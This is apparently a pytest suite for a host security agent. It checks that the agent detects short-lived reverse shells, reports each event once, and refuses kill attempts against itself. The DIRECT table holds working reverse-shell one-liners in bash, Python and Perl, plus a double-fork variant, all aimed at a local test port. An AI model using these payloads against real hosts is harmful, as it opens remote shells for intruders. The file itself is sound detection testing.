"""The guard as part of a running agent: shells that live for 50 ms, attempts on the agent, one event for one thing."""

from __future__ import annotations

import json
import os
import re
import signal
import socket
import subprocess
import sys
import time
from collections import Counter
from collections.abc import Iterator
from contextlib import suppress
from pathlib import Path

import pytest

from guard.harness import LOOP, PROGRAM
from live.account import Account
from live.agent import LiveAgent, Reported, live_agent, read_report
from nbsentinel_guard import abi

pytestmark = pytest.mark.skipif(abi.machine() is None, reason="no table of system calls for this machine")
HIGH = 4
SHORT_S = 0.05
TAMPERING = "5b1d7a52-7c0e-4c34-9a55-4b7f0d1f9a06"
_PYTHON = """
import os, socket
s = socket.create_connection(("127.0.0.1", {port}))
for number in (0, 1, 2):
    os.dup2(s.fileno(), number)
os.execl("/bin/sh", "sh")
"""
_PERL = """
use Socket;
socket(S, PF_INET, SOCK_STREAM, 6);
connect(S, sockaddr_in({port}, inet_aton("127.0.0.1")));
open(STDIN, ">&S"); open(STDOUT, ">&S"); open(STDERR, ">&S");
exec("/bin/sh");
"""
_BASH = "exec 3<>/dev/tcp/127.0.0.1/{port}; sh <&3 >&3 2>&3"
DIRECT = {
    "bash": ["bash", "-c", _BASH],
    "interactive": ["bash", "-c", "exec sh -i >& /dev/tcp/127.0.0.1/{port} 0>&1"],
    "python": ["python3", "-c", _PYTHON],
    "perl": ["perl", "-e", _PERL],
    "double fork": ["bash", "-c", f"(setsid bash -c '{_BASH}' >/dev/null 2>&1 &); sleep 0.5"],
}


@pytest.fixture(scope="module")
def agent(account: Account, folder: Path) -> Iterator[LiveAgent]:
    with live_agent(account, folder / "agent", '[report]\nlevel = "all"\n') as running:
        yield running


def guarded(account: Account, folder: Path, *command: str) -> list[str]:
    run_dir = str(folder / "agent" / "run")
    return [*account.prefix, sys.executable, "-I", "-S", PROGRAM, "--run-dir", run_dir, "--", *command]


def status(account: Account, folder: Path) -> dict[str, object]:
    command = [*account.prefix, sys.executable, "-m", "nbsentinel", "status", "--json", "--run-dir"]
    result = subprocess.run([*command, str(folder / "agent" / "run")], capture_output=True, text=True)
    found: dict[str, object] = json.loads(result.stdout)
    return found


def events(folder: Path) -> list[dict[str, object]]:
    return read_report(folder / "agent" / "report.ndjson")


@pytest.mark.parametrize("way", DIRECT)
def test_shell_of_50_ms(account: Account, folder: Path, agent: LiveAgent, way: str) -> None:
    """A shell that a remote peer commands once, for 50 ms, is a finding about that very process."""
    with socket.create_server(("127.0.0.1", 0)) as server:
        port = server.getsockname()[1]
        command = [part.replace("{port}", str(port)) for part in DIRECT[way]]
        with subprocess.Popen(guarded(account, folder, *command), stdin=subprocess.DEVNULL, stderr=subprocess.DEVNULL):
            server.settimeout(10)
            connection, _ = server.accept()
            with connection:
                connection.sendall(b"echo pid=$$=\n")
                connection.settimeout(5)
                answer = b""
                while not (told := re.search(rb"pid=(\d+)=", answer)):
                    answer += connection.recv(1000)
                time.sleep(SHORT_S)
                connection.shutdown(socket.SHUT_RDWR)
    finding = agent.wait_finding([int(told.group(1))], HIGH, 5)
    assert finding is not None


def test_coverage_says_that_the_guard_works(account: Account, folder: Path, agent: LiveAgent) -> None:
    """The self-test ran through a guarded child, and `status` has its result."""
    rows = {row["sensor"]: row for row in status(account, folder)["coverage"]}  # type: ignore[attr-defined]
    assert (rows["guard"]["state"], rows["guard"]["why"]) == ("active", "")


def test_one_event_for_one_thing(account: Account, folder: Path, agent: LiveAgent) -> None:
    """Two sensors see a program that lives for a second; it is reported once, and so is its connection.

    A process that was unreadable at first may be told again with its file.
    """
    with socket.create_server(("127.0.0.1", 0)) as server:
        port = server.getsockname()[1]
        code = f"import socket, time; s = socket.create_connection(('127.0.0.1', {port})); time.sleep(1.2)"
        assert subprocess.run(guarded(account, folder, "python3", "-c", code)).returncode == 0
    time.sleep(1.5)
    starts = Counter(
        (e["process"]["pid"], e["process"].get("cmd_line", ""), e["process"].get("file", {}).get("path"))  # type: ignore[index]
        for e in events(folder)
        if e["class_uid"] == 1007 and e["activity_id"] == 1
    )
    assert [told for told, count in starts.items() if count > 1] == []
    connects = [
        e
        for e in events(folder)
        if e["class_uid"] == 4001 and e["dst_endpoint"].get("port") == port  # type: ignore[attr-defined]
    ]
    assert len(connects) == 1


def test_attempt_on_the_agent_is_refused_and_signed(account: Account, folder: Path, agent: LiveAgent) -> None:
    """A guarded process cannot end the agent; the attempt is a finding of high severity."""
    pid = status(account, folder)["pid"]
    result = subprocess.run(guarded(account, folder, "bash", "-c", f"kill -9 {pid}"), capture_output=True, text=True)
    assert "not permitted" in result.stderr
    assert agent.running
    found = wait_for_rule(agent, TAMPERING)
    assert found
    names = [e["evidences"][0]["process"].get("cmd_line", "") for e in events(folder) if e["class_uid"] == 2004]  # type: ignore[index]
    assert any(f"kill -9 {pid}" in name for name in names), "the finding is about who did it"


def test_no_signal_ends_the_agent(account: Account, folder: Path, agent: LiveAgent) -> None:
    """Signals that nobody traps are ignored: by the agent, by its keeper, by the guard."""
    found = status(account, folder)
    pids = [found["pid"], found["keeper_pid"], *(holder_of(folder) or ())]
    numbers = [n for n in range(1, 65) if n not in (1, 2, 9, 15, 18, 19, 32, 33)]
    line = "; ".join(f"kill -{number} {pid}" for pid in pids for number in numbers)
    subprocess.run(guarded(account, folder, "bash", "-c", line), capture_output=True, text=True)
    time.sleep(0.5)
    after = status(account, folder)
    assert [after["pid"], after["keeper_pid"], *(holder_of(folder) or ())] == pids


def wait_for_rule(agent: LiveAgent, rule: str, seconds: float = 5.0) -> list[Reported]:
    deadline = time.monotonic() + seconds
    while time.monotonic() < deadline:
        if found := [finding for finding in agent.findings() if finding.rule == rule]:
            return found
        time.sleep(0.05)
    return []


def holder_of(folder: Path) -> tuple[int, int] | None:
    """Return holder and supervisor of this agent's guard: a process and its child with the same command line."""
    wanted, parents = f"hold\0{folder}/agent/run\0", {}
    for name in os.listdir("/proc"):
        with suppress(OSError):
            if name.isdigit() and wanted in Path("/proc", name, "cmdline").read_text(errors="replace"):
                parents[int(name)] = int(Path("/proc", name, "stat").read_text().rpartition(")")[2].split()[1])
    return next(((parent, pid) for pid, parent in parents.items() if parent in parents), None)


def test_killed_holder_is_replaced(account: Account, folder: Path, agent: LiveAgent) -> None:
    """Somebody outside the guard kills holder and supervisor at once, again and again: all goes on and is seen."""
    command = guarded(account, folder, "python3", "-c", LOOP, "6")
    with subprocess.Popen(command, stdout=subprocess.PIPE, text=True) as loop:
        assert loop.stdout is not None
        assert loop.stdout.readline() == "ready\n"
        for _ in range(4):
            time.sleep(0.5)
            first = holder_of(folder)
            assert first is not None
            for pid in first:
                os.kill(pid, signal.SIGKILL)
            deadline = time.monotonic() + 3
            while (second := holder_of(folder)) is None or second == first:
                assert time.monotonic() < deadline
                time.sleep(0.05)
        done, bad, worst = loop.stdout.read().split()
        assert loop.wait() == 0
    assert bad == "0"
    assert int(done) > 50
    assert float(worst) < 1.0
    test_coverage_says_that_the_guard_works(account, folder, agent)
    mark = f"after-{os.getpid()}"
    subprocess.run(guarded(account, folder, "/bin/echo", mark), capture_output=True)
    deadline = time.monotonic() + 5
    while not any(e["class_uid"] == 1007 and mark in e["process"].get("cmd_line", "") for e in events(folder)):  # type: ignore[index]
        assert time.monotonic() < deadline
        time.sleep(0.1)


def test_environment_and_descriptors_are_as_given(account: Account, folder: Path, agent: LiveAgent) -> None:
    """The launcher leaves nothing behind: same environment, descriptors, signals, folder and pid."""
    code = (
        "import os, json; signals = [l for l in open('/proc/self/status') if l.startswith(('SigI', 'SigB', 'SigC'))]; "
        "print(json.dumps([sorted(os.environ), sorted(os.listdir('/proc/self/fd')), os.getcwd(), signals]))"
    )
    environment = {**os.environ, "LC_ALL": "C"}
    plain = subprocess.run(["python3", "-c", code], capture_output=True, text=True, env=environment)
    command = guarded(account, folder, "python3", "-c", code)
    inside = subprocess.run(command, capture_output=True, text=True, env=environment)
    assert json.loads(inside.stdout) == json.loads(plain.stdout)
